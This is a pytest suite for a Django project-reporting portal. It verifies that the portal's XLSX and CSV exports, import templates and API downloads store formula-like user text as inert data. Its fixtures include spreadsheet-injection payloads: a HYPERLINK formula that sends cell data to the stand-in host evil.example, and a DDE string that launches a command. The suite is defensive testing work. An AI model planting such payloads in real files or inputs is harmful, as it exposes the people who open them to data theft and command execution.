"""Every file the portal writes from people's text is data: no cell a spreadsheet would run."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from core.files import FORMULA_STARTS, csv_safe
from indicators import services
from indicators.models import Dimension, IndicatorDimension
from indicators.services import snapshots
from projects.models import Result
from tests.factories import (
    CategoryFactory,
    FundingFactory,
    IndicatorFactory,
    MembershipFactory,
    OrganisationFactory,
    PartnershipFactory,
    PeriodFactory,
    ProjectFactory,
)

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
OTHERS = ["+1+2", "-3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


@pytest.fixture
def hostile(django_capture_on_commit_callbacks):
    """A project whose texts are formulas, with an approved update narrated by one."""
    ngo = OrganisationFactory(name="NGO", short_name="ngo")
    funder = OrganisationFactory(name="Funder", short_name="fund", kind="funder")
    project = ProjectFactory(
        title="=1+1", planned_start=date(2025, 1, 1), planned_end=date(2025, 12, 31)
    )
    PartnershipFactory(project=project, organisation=ngo)
    FundingFactory(project=project, funder=funder)
    result = Result.objects.create(project=project, level="objective", number="1", title="@SUM(9)")
    indicator = IndicatorFactory(
        project=project, code="+1", name=PAYLOAD, unit="-2+3", result=result
    )
    place = Dimension.objects.create(slug="place", name="=Place", kind="location", owner=ngo)
    CategoryFactory(dimension=place, slug="a", name="=A()")
    CategoryFactory(dimension=place, slug="b", name="B")
    IndicatorDimension.objects.create(indicator=indicator, dimension=place)
    period = PeriodFactory(
        project=project, name="=Half", start=date(2025, 1, 1), end=date(2025, 6, 30)
    )
    people = {
        "editor": MembershipFactory(organisation=ngo, role="editor").user,
        "manager": MembershipFactory(organisation=ngo, role="manager").user,
        "funder": MembershipFactory(organisation=funder, role="viewer").user,
    }
    with django_capture_on_commit_callbacks(execute=True):
        update = services.create_update(
            indicator=indicator,
            by=people["editor"],
            figures=services.Figures(period=period, value=Decimal(7), narrative="=2+5"),
            submit=True,
        )
        services.approve_update(update=update, by=people["manager"])
    snapshots.recompute()
    return {"project": project, "funder_org": funder, **people}


def formula_cells(content: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(content))
    return [
        f"{sheet.title}!{cell.coordinate}: {cell.value}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def every_text(content: bytes) -> set[str]:
    book = load_workbook(io.BytesIO(content))
    return {
        cell.value
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }


def test_csv_cells_that_start_like_formulas_are_quoted_and_the_rest_kept():
    for payload in [PAYLOAD, *OTHERS]:
        assert csv_safe(payload) == "'" + payload
    assert csv_safe("Mujeres") == "Mujeres"
    assert csv_safe(Decimal("-5")) == Decimal("-5")  # numbers stay numbers
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}


def test_the_funders_and_the_projects_iptt_hold_the_formulas_as_text(client, hostile):
    client.force_login(hostile["funder"])
    for url in (
        reverse("dashboard-report", args=[hostile["funder_org"].pk]),
        reverse("project-report-xlsx", args=[hostile["project"].pk]),
    ):
        content = b"".join(client.get(url).streaming_content)
        assert formula_cells(content) == [], url
        texts = every_text(content)
        assert PAYLOAD in texts and "+1" in texts, url


def test_the_import_templates_hold_names_as_text(client, hostile):
    project = hostile["project"]
    client.force_login(hostile["editor"])
    xlsx = client.get(reverse("indicators:import-template", args=[project.pk, "xlsx"])).content
    assert formula_cells(xlsx) == []
    assert "=A()" in " ".join(every_text(xlsx)) or "+1" in every_text(xlsx)
    text = client.get(reverse("indicators:import-template", args=[project.pk, "csv"])).text
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell
    client.force_login(hostile["manager"])
    framework = client.get(reverse("indicators:framework-template", args=[project.pk])).content
    assert formula_cells(framework) == []
    assert "=Place" in every_text(framework)


def test_the_csv_and_hxl_exports_neutralise_formulas(client, hostile):
    client.force_login(hostile["funder"])
    for url in (
        f"/api/v1/indicators.csv?project={hostile['project'].pk}",
        f"/api/v1/updates.csv?project={hostile['project'].pk}",
    ):
        response = client.get(url)
        text = b"".join(response.streaming_content).decode()
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)], url
        assert "'+1" in cells, url  # the indicator's code, quoted
